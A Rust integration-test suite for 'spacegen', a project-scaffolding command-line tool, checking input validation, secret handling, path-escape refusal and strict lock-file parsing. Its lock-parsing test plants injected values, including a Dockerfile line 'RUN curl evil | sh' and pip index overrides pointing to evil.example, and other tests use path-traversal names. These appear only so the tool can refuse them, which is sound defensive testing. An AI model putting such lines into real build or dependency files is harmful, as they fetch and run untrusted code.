//! Integration tests of the `spacegen` command line, through the real binary.

use crate::common;

use common::{assert_run, read_tree, repo_root, Test};
use std::fs;

#[test]
fn list_shows_the_shipped_blueprints_but_not_layers() {
    let (run, _dir) = Test::new().args(["list"]).run();
    assert_run("list", &run);
}

#[test]
fn show_lists_variables_files_and_pins() {
    let (run, _dir) = Test::new().args(["show", "sqlite-demo"]).run();
    assert_run("show-sqlite-demo", &run);
}

#[test]
fn show_follows_a_chain_of_layers() {
    let (run, _dir) = Test::new().args(["show", "openrouter"]).run();
    assert_run("show-openrouter", &run);
}

#[test]
fn help_documents_exit_codes_on_every_command() {
    for args in [
        vec!["--help"],
        vec!["new", "--help"],
        vec!["list", "--help"],
        vec!["show", "--help"],
        vec!["lock", "--help"],
        vec!["completions", "--help"],
        vec!["man", "--help"],
    ] {
        let (run, _dir) = Test::new().args(args.clone()).run();
        assert!(
            run.stdout.contains("Exit status:"),
            "{args:?}: {}",
            run.stdout
        );
    }
}

#[test]
fn new_with_defaults_writes_the_project_and_its_record() {
    let (run, dir) = Test::new().args(["new", "--defaults", "out"]).run();
    let out = dir.path().join("out");
    assert_run("new-defaults", &run);
    for file in [
        "Dockerfile",
        "requirements.txt",
        "app/main.py",
        "README.md",
        ".env.example",
        ".spacegen/answers.toml",
    ] {
        assert!(out.join(file).is_file(), "{file} missing");
    }
    assert!(
        !out.join(".github").exists(),
        "workflow written although github_sync is off"
    );
    let record = fs::read_to_string(out.join(".spacegen/answers.toml")).unwrap();
    assert!(record.contains("name = \"sqlite-demo\""), "{record}");
    assert!(record.contains("content_hash = \"sha256:"), "{record}");
    assert!(
        record.contains("\"Dockerfile\" = \"sha256:") || record.contains("Dockerfile = \"sha256:"),
        "{record}"
    );
}

#[test]
fn dest_defaults_to_the_slug() {
    let (_run, dir) = Test::new()
        .args(["new", "--defaults"])
        .var("title", "Chat Bot API")
        .run();
    assert!(dir.path().join("chat-bot-api/Dockerfile").is_file());
}

#[test]
fn no_terminal_reports_every_invalid_value_at_once() {
    let (run, dir) = Test::new()
        .args(["new", "out"])
        .var("port", "80")
        .var("color_from", "orange")
        .var("short_description", &"x".repeat(61))
        .var("nope", "1")
        .var("github_sync", "perhaps")
        .status(2)
        .run();
    assert_run("new-every-invalid-value", &run);
    assert!(!dir.path().join("out").exists());
}

#[test]
fn a_derived_default_that_fails_validation_is_reported() {
    let (run, _dir) = Test::new()
        .args(["new", "out", "--defaults"])
        .var("title", "!!!")
        .status(2)
        .run();
    assert_run("new-invalid-derived-default", &run);
}

#[test]
fn answers_file_is_read_and_flags_win() {
    let (_run, dir) = Test::new()
        .write(
            "a.toml",
            "title = \"From File\"\nport = 8000\ndev_origins = [\"http://localhost:4000\"]\n",
        )
        .args(["new", "out", "--answers", "a.toml"])
        .var("port", "9000")
        .run();
    let record = fs::read_to_string(dir.path().join("out/.spacegen/answers.toml")).unwrap();
    assert!(record.contains("title = \"From File\""), "{record}");
    assert!(record.contains("port = 9000"), "{record}");
    assert!(record.contains("\"http://localhost:4000\""), "{record}");
}

#[test]
fn a_project_regenerates_byte_for_byte_from_its_record() {
    let (_run, dir) = Test::new()
        .args(["new", "one", "--defaults"])
        .var("title", "Twice")
        .var("github_sync", "true")
        .run();
    let one = dir.path().join("one");
    let (_run, dir2) = Test::new()
        .args(["new", "two", "--answers"])
        .args([one.join(".spacegen/answers.toml").display().to_string()])
        .run();
    assert_eq!(read_tree(&one), read_tree(&dir2.path().join("two")));
}

#[test]
fn generation_is_deterministic() {
    let (_run, dir) = Test::new().args(["new", "a", "--defaults"]).run();
    let (_run, dir2) = Test::new().args(["new", "a", "--defaults"]).run();
    let a = read_tree(&dir.path().join("a"));
    assert_eq!(a, read_tree(&dir2.path().join("a")));
    for (path, bytes) in &a {
        assert!(!bytes.windows(2).any(|w| w == b"\r\n"), "{path} has CRLF");
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = fs::metadata(dir.path().join("a/Dockerfile"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o644);
    }
}

#[test]
fn non_empty_destination_is_refused_without_force() {
    let (run, dir) = Test::new()
        .write("out/mine.txt", "keep")
        .args(["new", "out", "--defaults"])
        .status(2)
        .run();
    assert_run("new-not-empty", &run);
    assert!(!dir.path().join("out/Dockerfile").exists());
    assert_eq!(
        fs::read_dir(dir.path()).unwrap().count(),
        1,
        "staging folder left behind"
    );
}

#[test]
fn force_overwrites_blueprint_files_and_keeps_the_rest() {
    let (run, dir) = Test::new()
        .write("out/mine.txt", "keep")
        .write("out/Dockerfile", "old")
        .args(["new", "out", "--defaults", "--force"])
        .run();
    assert_run("new-force", &run);
    assert_eq!(
        fs::read_to_string(dir.path().join("out/mine.txt")).unwrap(),
        "keep"
    );
    assert_ne!(
        fs::read_to_string(dir.path().join("out/Dockerfile")).unwrap(),
        "old"
    );
}

#[test]
fn dry_run_writes_nothing() {
    let (run, dir) = Test::new()
        .args(["new", "out", "--defaults", "--dry-run"])
        .run();
    assert_run("new-dry-run", &run);
    assert!(!dir.path().join("out").exists());
}

#[cfg(unix)]
#[test]
fn symlinks_in_the_destination_are_refused() {
    let t = Test::new().write("out/keep.txt", "x");
    let outside = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(outside.path(), t.path().join("out/app")).unwrap();
    let (run, _dir) = t
        .args(["new", "out", "--defaults", "--force"])
        .status(2)
        .run();
    assert_run("new-symlink-in-destination", &run);
    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 0);
}

#[test]
fn a_variable_in_a_file_name_cannot_escape_the_destination() {
    let t = Test::new()
        .write("bps/custom/blueprint.toml", "[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\n\n[[variables]]\nname = \"name\"\ntype = \"string\"\ndefault = \"x\"\n")
        .write("bps/custom/template/{{ name }}/f.txt", "hi");
    write_lock_for(&t);
    for evil in ["..", "../../etc", "/abs", "a\nb"] {
        let (run, _d) = custom_new(&t).var("name", evil).status(2).run();
        let name = format!("new-escaping-file-name-{}", evil.escape_default());
        assert_run(&name.replace(['/', '\\'], "_"), &run);
        assert!(!t.path().join("out").exists());
    }
    let (_run, _d) = custom_new(&t).var("name", "ok").run();
    assert!(t.path().join("out/ok/f.txt").is_file());
}

/// `spacegen new` of the custom blueprint under `bps/`, into `out`.
fn custom_new(t: &Test) -> Test {
    Test::new()
        .cwd(t.path())
        .args(["new", "--blueprint", "bps/custom", "out"])
}

/// Writes `bps/spaces.lock` for the custom blueprint.
fn write_lock_for(t: &Test) {
    common::write_custom_lock(t.path());
}

#[test]
fn an_undefined_variable_in_a_template_names_the_file_and_line() {
    let t = Test::new()
        .write(
            "bps/custom/blueprint.toml",
            "[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\n",
        )
        .write(
            "bps/custom/template/a.txt.liquid",
            "one\ntwo\n{% if tpyo %}x{% endif %}\n",
        );
    write_lock_for(&t);
    let (run, _d) = custom_new(&t).status(3).run();
    assert_run("new-unknown-variable-in-template", &run);
    assert!(!t.path().join("out").exists());
}

#[test]
fn a_changed_blueprint_is_refused_until_relocked() {
    let t = Test::new()
        .write(
            "bps/custom/blueprint.toml",
            "[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\n",
        )
        .write("bps/custom/template/a.txt", "one");
    write_lock_for(&t);
    fs::write(t.path().join("bps/custom/template/a.txt"), "changed").unwrap();
    let (run, _d) = custom_new(&t).status(3).run();
    assert_run("new-changed-blueprint", &run);
}

#[test]
fn unknown_blueprints_and_layers_are_refused() {
    let (run, _d) = Test::new()
        .args(["new", "--blueprint", "nope", "--defaults"])
        .status(2)
        .run();
    assert_run("new-unknown-blueprint", &run);
    let (run, _d) = Test::new()
        .args(["new", "--blueprint", "base", "--defaults"])
        .status(2)
        .run();
    assert_run("new-layer", &run);
    let (run, _d) = Test::new()
        .args(["new", "--blueprint", "./nowhere", "--defaults"])
        .status(2)
        .run();
    assert_run("new-not-a-blueprint-folder", &run);
}

#[test]
fn the_repository_lock_is_up_to_date() {
    let (run, _d) = Test::new().cwd(repo_root()).args(["lock", "--check"]).run();
    assert_run("lock-check-repository", &run);
}

#[test]
fn secrets_are_never_written() {
    let manifest = "[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\n\n[[variables]]\nname = \"name\"\ntype = \"string\"\ndefault = \"x\"\n\n[[variables]]\nname = \"token\"\ntype = \"string\"\nsecret = true\n[variables.validate]\nmin_length = 8\n";
    let t = Test::new()
        .write("bps/custom/blueprint.toml", manifest)
        .write("bps/custom/template/a.txt.liquid", "{{ name }}\n");
    write_lock_for(&t);

    // Without a terminal, a missing or invalid secret is reported like any other value.
    let (run, _d) = custom_new(&t).status(2).run();
    assert_run("new-missing-secret", &run);
    let (run, _d) = custom_new(&t).var("token", "short").status(2).run();
    assert_run("new-invalid-secret", &run);
    assert!(!run.stderr.contains("short"), "the secret was echoed");

    let (_run, _d) = custom_new(&t).var("token", "s3cr3t-value").run();
    for (path, bytes) in read_tree(&t.path().join("out")) {
        assert!(
            !String::from_utf8_lossy(&bytes).contains("s3cr3t-value"),
            "{path} holds the secret"
        );
    }
    let record = fs::read_to_string(t.path().join("out/.spacegen/answers.toml")).unwrap();
    assert!(
        record.contains("name = \"x\"") && !record.contains("token"),
        "{record}"
    );
}

#[test]
fn a_template_cannot_read_a_secret() {
    let manifest = "[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\n\n[[variables]]\nname = \"token\"\ntype = \"string\"\nsecret = true\n";
    let t = Test::new()
        .write("bps/custom/blueprint.toml", manifest)
        .write("bps/custom/template/a.txt.liquid", "key={{ token }}\n");
    write_lock_for(&t);
    let (run, _d) = custom_new(&t).var("token", "s3cr3t-value").status(3).run();
    assert_run("new-template-reads-a-secret", &run);
    assert!(!t.path().join("out").exists());
}

#[test]
fn a_title_that_env_files_would_expand_is_refused() {
    let (run, _d) = Test::new()
        .args(["new", "out", "--defaults"])
        .var("title", "Costs ${PRICE}")
        .status(2)
        .run();
    assert_run("new-title-env-expansion", &run);
    let (_run, _d) = Test::new()
        .args(["new", "out", "--defaults"])
        .var("title", "Costs $5 and $$")
        .run();
}

#[cfg(unix)]
#[test]
fn executable_templates_stay_executable() {
    use std::os::unix::fs::PermissionsExt;
    let t = Test::new()
        .write(
            "bps/custom/blueprint.toml",
            "[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\n",
        )
        .write(
            "bps/custom/template/run.sh.liquid",
            "#!/bin/sh\necho {{ blueprint.name }}\n",
        )
        .write("bps/custom/template/plain.txt", "x\n");
    let script = t.path().join("bps/custom/template/run.sh.liquid");
    fs::set_permissions(&script, fs::Permissions::from_mode(0o700)).unwrap();
    write_lock_for(&t);
    let (_run, _d) = custom_new(&t).run();
    let mode = |p: &str| {
        fs::metadata(t.path().join("out").join(p))
            .unwrap()
            .permissions()
            .mode()
            & 0o777
    };
    assert_eq!(mode("run.sh"), 0o755);
    assert_eq!(mode("plain.txt"), 0o644);
    assert_eq!(
        fs::read_to_string(t.path().join("out/run.sh")).unwrap(),
        "#!/bin/sh\necho custom\n"
    );
}

#[test]
fn a_bare_name_means_the_embedded_blueprint_even_beside_a_folder_of_that_name() {
    let (run, _d) = Test::new()
        .write("sqlite-demo/blueprint.toml", "not a manifest")
        .args(["show", "sqlite-demo"])
        .run();
    let first = run.stdout.lines().next().unwrap_or_default();
    assert!(first.starts_with("sqlite-demo "), "{}", run.stdout);
    assert!(run.stdout.contains("\nextends: base\n"), "{}", run.stdout);
}

#[test]
fn a_closed_pipe_ends_the_output_quietly() {
    use std::process::{Command, Stdio};
    let mut child = Command::new(env!("CARGO_BIN_EXE_spacegen"))
        .args(["show", "sqlite-demo"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // The reader goes away before the first line is written, as `| head -0` would.
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(String::from_utf8_lossy(&out.stderr), "");
}

/// Every value of spaces.lock is parsed strictly before anything is generated from it: a value
/// that could smuggle a line into the Dockerfile or requirements.txt, a digest that is not one,
/// a version that is not PEP 440, a file that belongs to another package or version: exit 3,
/// naming the field, nothing written.
#[test]
fn lock_values_are_parsed_strictly() {
    let shipped = std::fs::read_to_string(common::repo_root().join("spaces.lock")).unwrap();
    let first_hash = {
        let at = shipped.find("sha256 = \"").unwrap() + "sha256 = \"".len();
        shipped[at..at + 64].to_owned()
    };
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "python-newline",
            shipped.replacen(
                "python = \"3.11\"",
                "python = \"3.11\\nRUN curl evil | sh\"",
                1,
            ),
            "python",
        ),
        (
            "python-banana",
            shipped.replacen("python = \"3.11\"", "python = \"banana\"", 1),
            "python",
        ),
        (
            "sha256-short",
            shipped.replacen(&first_hash, "zzz", 1),
            "sha256",
        ),
        (
            "sha256-newline",
            shipped.replacen(
                &first_hash,
                &format!("{first_hash}\\n--extra-index-url https://evil.example/simple"),
                1,
            ),
            "sha256",
        ),
        (
            "version-not-pep440",
            shipped.replacen("version = \"0.22.1\"", "version = \"0.22.1; evil\"", 1),
            "version",
        ),
        (
            "file-of-another-package",
            shipped.replacen(
                "aiosqlite-0.22.1-py3-none-any.whl",
                "evil-9.9-py3-none-any.whl",
                1,
            ),
            "belongs to",
        ),
        (
            "requires-python",
            shipped.replacen(
                "requires-python = \">=3.11\"",
                "requires-python = \"banana\"",
                1,
            ),
            "requires-python",
        ),
        (
            "rule-the-matrix-does-not-know",
            shipped.replace("\"fastapi-python-3.11\",", "\"no-such-rule\","),
            "no rule of the matrix has this id",
        ),
        (
            "python-outside-requires-python",
            shipped.replace("python = \"3.11\"\n", "python = \"3.8\"\n"),
            "not a Python the set supports",
        ),
        (
            "pin-without-artifact",
            shipped.replace(
                "requested = \">=0.163\"\nversion = \"0.165.0\"",
                "requested = \">=0.163\"\nversion = \"9.9.9\"",
            ),
            "no artifact of fastapi 9.9.9",
        ),
        (
            "marker-newline",
            shipped.replacen(
                "marker = \"sys_platform == 'win32'\"",
                "marker = \"sys_platform == 'win32'\\n--index-url https://evil.example\"",
                1,
            ),
            "marker",
        ),
    ];
    for (name, text, field) in cases {
        assert_ne!(text, shipped, "{name}: the case changed nothing");
        let t = Test::new().write("spaces.lock", &text);
        let lock = t.path().join("spaces.lock");
        let (run, _d) = t
            .args(["new", "out", "--defaults", "--lock", lock.to_str().unwrap()])
            .status(3)
            .run();
        assert!(run.stderr.contains(field), "{name}: {}", run.stderr);
        assert!(
            run.stderr.contains("spaces.lock:"),
            "{name}: no position: {}",
            run.stderr
        );
        assert!(
            !run.dir.join("out").exists(),
            "{name}: something was written"
        );
    }
}

/// Which lock a blueprint folder uses is narrow and said: the `spaces.lock` of its blueprint set
/// (beside the blueprint folders) or of the folder holding the set, never one further up.
#[test]
fn the_lock_of_a_blueprint_folder_is_found_narrowly_and_named() {
    let manifest = "[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\n";
    let t = Test::new()
        .write("deep/down/bps/custom/blueprint.toml", manifest)
        .write("deep/down/bps/custom/template/a.txt", "a\n");
    // A valid lock for it, planted two levels above the set: not used.
    let (run, _d) = Test::new()
        .cwd(t.path())
        .args(["show", "deep/down/bps/custom"])
        .run();
    let hash = run
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("content hash: "))
        .expect("hash")
        .to_owned();
    let lock = format!("format = 3\n\n[blueprints.custom]\nversion = \"1.0.0\"\ncontent-hash = \"{hash}\"\npython = \"3.11\"\nrequires-python = \">=3.11\"\nexclude-newer = \"2026-11-27T00:00:00Z\"\npackages = {{}}\n");
    fs::write(t.path().join("deep/spaces.lock"), &lock).unwrap();
    let (run, _d) = Test::new()
        .cwd(t.path())
        .args([
            "new",
            "--blueprint",
            "deep/down/bps/custom",
            "out",
            "--defaults",
        ])
        .status(3)
        .run();
    assert!(!run.stderr.contains("deep/spaces.lock"), "{}", run.stderr);
    assert!(!t.path().join("out").exists());
    // Beside the set's parent folder (a repository holding blueprints/): used, and said.
    fs::rename(
        t.path().join("deep/spaces.lock"),
        t.path().join("deep/down/spaces.lock"),
    )
    .unwrap();
    let (run, _d) = Test::new()
        .cwd(t.path())
        .args([
            "new",
            "--blueprint",
            "deep/down/bps/custom",
            "out",
            "--defaults",
        ])
        .run();
    run.stderr_has("using the lock ");
    run.stderr_has("/deep/down/spaces.lock");
    assert!(t.path().join("out/a.txt").is_file());
}

/// An answers file that does not parse is pointed at without showing its values: the line may
/// hold a secret.
#[test]
fn a_broken_answers_file_is_shown_without_its_values() {
    let manifest = "[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\n\n[[variables]]\nname = \"token\"\ntype = \"string\"\nsecret = true\n";
    let t = Test::new()
        .write("bps/custom/blueprint.toml", manifest)
        .write("bps/custom/template/a.txt", "a\n")
        .write("unterminated.toml", "token = \"S3CRET-unterminated\n")
        .write(
            "twice.toml",
            "token = \"sk-one\"\ntoken = \"S3CRET-twice\"\n",
        )
        .write(
            "multi.toml",
            "token = \"\"\"\nS3CRET-multi\nmore\n\"\"\"\nx = \n",
        );
    write_lock_for(&t);
    for file in ["unterminated.toml", "twice.toml", "multi.toml"] {
        let answers = t.path().join(file);
        let (run, _d) = custom_new(&t)
            .args(["--answers", answers.to_str().unwrap()])
            .status(2)
            .run();
        assert!(run.stderr.contains(file), "{}", run.stderr);
        assert!(
            !run.stderr.contains("S3CRET"),
            "{file}: a value was shown:\n{}",
            run.stderr
        );
    }
}

/// A secret of any type is never shown, whatever is wrong with it.
#[test]
fn secret_numbers_and_switches_are_not_echoed_either() {
    let manifest = "[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\n\n[[variables]]\nname = \"pin\"\ntype = \"integer\"\nsecret = true\n[variables.validate]\nmin = 100000\n\n[[variables]]\nname = \"flag\"\ntype = \"bool\"\nsecret = true\n";
    let t = Test::new()
        .write("bps/custom/blueprint.toml", manifest)
        .write("bps/custom/template/a.txt", "a\n");
    write_lock_for(&t);
    for (pin, flag) in [("4711", "true"), ("47x11", "true"), ("123456", "maybe9876")] {
        let (run, _d) = custom_new(&t)
            .var("pin", pin)
            .var("flag", flag)
            .status(2)
            .run();
        for shown in [pin, flag] {
            if shown != "true" && shown != "123456" {
                assert!(
                    !run.stderr.contains(shown),
                    "{shown} was echoed:\n{}",
                    run.stderr
                );
            }
        }
    }
}

/// The "write your own blueprint" section of blueprints/README.md works as written: its shell
/// block runs in an empty folder with spacegen on the PATH.
#[test]
fn the_write_your_own_blueprint_guide_works_as_written() {
    let readme = fs::read_to_string(common::repo_root().join("blueprints/README.md")).unwrap();
    let section = &readme[readme
        .find("## Write your own blueprint")
        .expect("the section")..];
    let start = section.find("```sh\n").expect("a shell block") + "```sh\n".len();
    let script = &section[start..start + section[start..].find("\n```").unwrap()];
    let t = Test::new();
    let bin = std::path::Path::new(env!("CARGO_BIN_EXE_spacegen"));
    let path = format!(
        "{}:{}",
        bin.parent().unwrap().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let out = std::process::Command::new("sh")
        .args(["-e", "-c", script])
        .current_dir(t.path())
        .env("PATH", path)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("Hello, world!"), "{stdout}");
}

/// A blueprint folder that was never locked gets the command that locks it.
#[test]
fn an_unlocked_blueprint_folder_is_told_how_to_lock_it() {
    let t = Test::new()
        .write(
            "mine/hello/blueprint.toml",
            "[blueprint]\nname = \"hello\"\nversion = \"0.1.0\"\ndescription = \"t\"\n",
        )
        .write("mine/hello/template/a.txt", "a\n");
    let (run, _d) = Test::new()
        .cwd(t.path())
        .args(["new", "--blueprint", "mine/hello", "out", "--defaults"])
        .status(3)
        .run();
    run.stderr_has("no entry for blueprint 'hello': it has not been locked");
    run.stderr_has("spacegen lock --blueprints ");
    run.stderr_has("/mine` in ");
    assert!(!t.path().join("out").exists());
}

/// Input that is not text, or a destination inside a file, gets the exit code of bad input (2)
/// or of a bad lock (3), not of a runtime failure (1).
#[test]
fn non_utf8_inputs_and_a_destination_inside_a_file_have_their_exit_codes() {
    let t = Test::new();
    fs::write(t.path().join("answers.toml"), b"title = \"\xff\xfe\"\n").unwrap();
    fs::write(t.path().join("bad.lock"), b"format = 2\n\xff\n").unwrap();
    fs::write(t.path().join("a-file"), "x\n").unwrap();
    let (run, _d) = Test::new()
        .cwd(t.path())
        .args(["new", "out", "--defaults", "--answers", "answers.toml"])
        .status(2)
        .run();
    run.stderr_has("answers.toml");
    run.stderr_has("not UTF-8");
    let (run, _d) = Test::new()
        .cwd(t.path())
        .args(["new", "out", "--defaults", "--lock", "bad.lock"])
        .status(3)
        .run();
    run.stderr_has("not UTF-8");
    let (run, _d) = Test::new()
        .cwd(t.path())
        .args(["new", "a-file/sub", "--defaults"])
        .status(2)
        .run();
    run.stderr_has("a-file");
    assert!(!t.path().join("out").exists());
}

/// One invalid value does not hide the others: invalid and missing values are reported
/// together, in one run.
#[test]
fn invalid_and_missing_values_are_reported_together() {
    let manifest = "[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\n\n[[variables]]\nname = \"port\"\ntype = \"integer\"\ndefault = 7860\n\n[[variables]]\nname = \"title\"\ntype = \"string\"\ndefault = \"T\"\n[variables.validate]\nmin_length = 1\n\n[[variables]]\nname = \"slug\"\ntype = \"string\"\ndefault = \"{{ title | slug }}\"\n\n[[variables]]\nname = \"owner\"\ntype = \"string\"\n";
    let t = Test::new()
        .write("bps/custom/blueprint.toml", manifest)
        .write("bps/custom/template/a.txt", "a\n");
    write_lock_for(&t);
    let (run, _d) = custom_new(&t)
        .var("port", "abc")
        .var("title", "")
        .status(2)
        .run();
    run.stderr_has("3 invalid or missing values");
    run.stderr_has("--var port=abc");
    run.stderr_has("--var title=");
    run.stderr_has("owner: no value and no default");
    assert!(!t.path().join("out").exists());
}

/// `extends` names a layer of the same blueprint set, never a path, even one that leads to a
/// layer.
#[test]
fn extends_is_a_name_never_a_path() {
    let layer = "[blueprint]\nname = \"other\"\nversion = \"1.0.0\"\ndescription = \"t\"\nkind = \"layer\"\n";
    for path in ["../other", "/abs", "a/b", "..\\\\x", "./other"] {
        let manifest = format!("[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\nextends = \"{path}\"\n");
        let t = Test::new()
            .write("other/blueprint.toml", layer)
            .write("bps/other/blueprint.toml", layer)
            .write("bps/custom/blueprint.toml", &manifest);
        let (run, _d) = Test::new()
            .cwd(t.path())
            .args(["show", "bps/custom"])
            .status(3)
            .run();
        run.stderr_has("bps/custom/blueprint.toml:5:");
        run.stderr_has("is a path");
        run.stderr_has("write its name: extends = \"");
    }
}

/// A variable cannot take a name templates already read as something else: a name the engine
/// puts in the context, or one liquid reads as a literal or its own loop object.
#[test]
fn variables_cannot_take_the_engines_names() {
    for name in ["requirements", "python", "empty", "nil", "forloop", "true"] {
        let manifest = format!("[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\n\n[[variables]]\nname = \"{name}\"\ntype = \"string\"\ndefault = \"x\"\n");
        let t = Test::new().write("bps/custom/blueprint.toml", &manifest);
        let (run, _d) = Test::new()
            .cwd(t.path())
            .args(["show", "bps/custom"])
            .status(3)
            .run();
        run.stderr_has("bps/custom/blueprint.toml:7:");
        run.stderr_has(&format!("variable '{name}'"));
        run.stderr_has("rename it");
    }
}

/// Every `when` is parsed when the blueprint loads: a malformed condition is refused with its
/// file and line before anything is generated, even one that would never be evaluated.
#[test]
fn malformed_conditions_are_refused_when_the_blueprint_loads() {
    let head = "[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\n\n[[variables]]\nname = \"name\"\ntype = \"string\"\ndefault = \"x\"\n\n[[variables]]\nname = \"token\"\ntype = \"string\"\nsecret = true\n\n";
    let cases = [
        ("[[files]]\npath = \"a.txt\"\nwhen = \"name ==\"\n", "name =="),
        ("[[files]]\npath = \"a.txt\"\nwhen = \"name and nope\"\n", "nope"),
        ("[[files]]\npath = \"a.txt\"\nwhen = \"name %}x{% if name\"\n", "markup"),
        ("[[files]]\npath = \"a.txt\"\nwhen = \"name | no_such_filter\"\n", "no_such_filter"),
        ("[[files]]\npath = \"a.txt\"\nwhen = \"token\"\n", "secret"),
        ("[[notes]]\nwhen = \"name == 'a' or\"\ntext = \"t\"\n", "name == 'a' or"),
        ("[dependencies]\ngroups = [{ name = \"g\", comment = \"c\", packages = [\"x\"], when = \"name contains\" }]\n", "name contains"),
        ("[[files]]\npath = \"a.txt\"\nwhen = \"{% if\"\n", "{% if"),
    ];
    for (extra, needle) in cases {
        let t = Test::new()
            .write("bps/custom/blueprint.toml", &format!("{head}{extra}"))
            .write("bps/custom/template/b.txt", "b\n");
        let (run, _d) = Test::new()
            .cwd(t.path())
            .args(["show", "bps/custom"])
            .status(3)
            .run();
        let line = format!("bps/custom/blueprint.toml:{}:", head.lines().count() + 2);
        let line_groups = format!("bps/custom/blueprint.toml:{}:", head.lines().count() + 3);
        assert!(
            run.stderr.contains(&line) || run.stderr.contains(&line_groups),
            "{extra}: {}",
            run.stderr
        );
        run.stderr_has(needle);
    }
}

/// Characters YAML cannot hold (control characters but tab and newline, noncharacters) and a
/// carriage return without its line feed are refused in any text value, naming the variable
/// and the character; a CRLF line break is read as LF, so every file and the record agree.
#[test]
fn characters_a_project_file_cannot_hold_are_refused_in_values() {
    for (value, shown) in [
        ("A\u{7}B", "U+0007"),
        ("A\rB", "U+000D"),
        ("A\u{FFFE}", "U+FFFE"),
        ("A\u{9C}B", "U+009C"),
        ("A\u{1FFFF}", "U+1FFFF"),
    ] {
        let (run, dir) = Test::new()
            .args(["new", "out", "--defaults"])
            .var("title", value)
            .status(2)
            .run();
        run.stderr_has("--var title=");
        run.stderr_has(shown);
        run.stderr_has("remove it");
        assert!(!run.stderr.contains(value), "the raw character was echoed");
        assert!(!dir.path().join("out").exists());
    }
    let (run, _d) = Test::new()
        .write("a.toml", "title = \"A\\uFDD0\"\n")
        .args(["new", "out", "--defaults", "--answers", "a.toml"])
        .status(2)
        .run();
    run.stderr_has("title in a.toml");
    run.stderr_has("U+FDD0");

    let (_run, dir) = Test::new()
        .write("a.toml", "title = \"Two\\r\\nlines\\tand a tab \\u2028\"\n")
        .args(["new", "out", "--defaults", "--answers", "a.toml"])
        .run();
    let out = dir.path().join("out");
    let record: toml::Table =
        toml::from_str(&fs::read_to_string(out.join(".spacegen/answers.toml")).unwrap()).unwrap();
    let want = "Two\nlines\tand a tab \u{2028}";
    assert_eq!(record["answers"]["title"].as_str(), Some(want));
    let readme = fs::read_to_string(out.join("README.md")).unwrap();
    let header = readme
        .strip_prefix("---\n")
        .and_then(|r| r.split_once("\n---\n"))
        .expect("a front matter header")
        .0;
    let docs = yaml_rust2::YamlLoader::load_from_str(header).expect("the header is YAML");
    assert_eq!(docs[0]["title"].as_str(), Some(want));
}

/// A value rendered into a path segment stays one segment, and makes a name every platform can
/// write: no `/`, no character or name Windows reserves, no bidirectional control.
#[test]
fn a_variable_in_a_file_name_makes_one_portable_segment() {
    let t = Test::new()
        .write("bps/custom/blueprint.toml", "[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\n\n[[variables]]\nname = \"name\"\ntype = \"string\"\ndefault = \"x\"\n")
        .write("bps/custom/template/{{ name }}/f.txt", "hi");
    write_lock_for(&t);
    for (evil, reason) in [
        ("a/b", "'/'"),
        ("pkg/sub", "'/'"),
        ("con", "Windows reserves"),
        ("CON.txt", "Windows reserves"),
        ("Lpt1.py", "Windows reserves"),
        ("nul", "Windows reserves"),
        ("com9", "Windows reserves"),
        ("a<b", "'<'"),
        ("a:b", "':'"),
        ("a|b", "'|'"),
        ("a?", "'?'"),
        ("a*", "'*'"),
        ("a\"b", "'\"'"),
        ("x.", "ends with a dot"),
        ("x\u{202E}txt.exe", "U+202E"),
        ("\u{200F}x", "U+200F"),
        ("x\u{2066}", "U+2066"),
        ("x\u{61C}", "U+061C"),
    ] {
        let (run, _d) = custom_new(&t).var("name", evil).status(2).run();
        assert!(run.stderr.contains(reason), "{evil:?}: {}", run.stderr);
        assert!(!t.path().join("out").exists(), "{evil:?} was written");
    }
    for fine in ["console", "com10", "con-x", "lpt", "a.b"] {
        let (_run, _d) = custom_new(&t).var("name", fine).run();
        assert!(t.path().join("out").join(fine).join("f.txt").is_file());
        fs::remove_dir_all(t.path().join("out")).unwrap();
    }
}

/// Every command the command line has, nested ones as `parent child`.
const COMMANDS: [&str; 11] = [
    "new",
    "list",
    "show",
    "lock",
    "matrix",
    "matrix refresh",
    "check",
    "outdated",
    "update",
    "completions",
    "man",
];

/// Whether `program` can be started here.
fn installed(program: &str) -> bool {
    std::process::Command::new(program)
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success())
}

/// Runs `program args… script` on a file holding `script`; its exit status must be 0.
fn shell_accepts(program: &str, args: &[&str], script: &str) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("completion");
    fs::write(&file, script).unwrap();
    let out = std::process::Command::new(program)
        .args(args)
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{program} refuses the script: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Whether `shell` is here to parse and run its completion script; when it is not, says so,
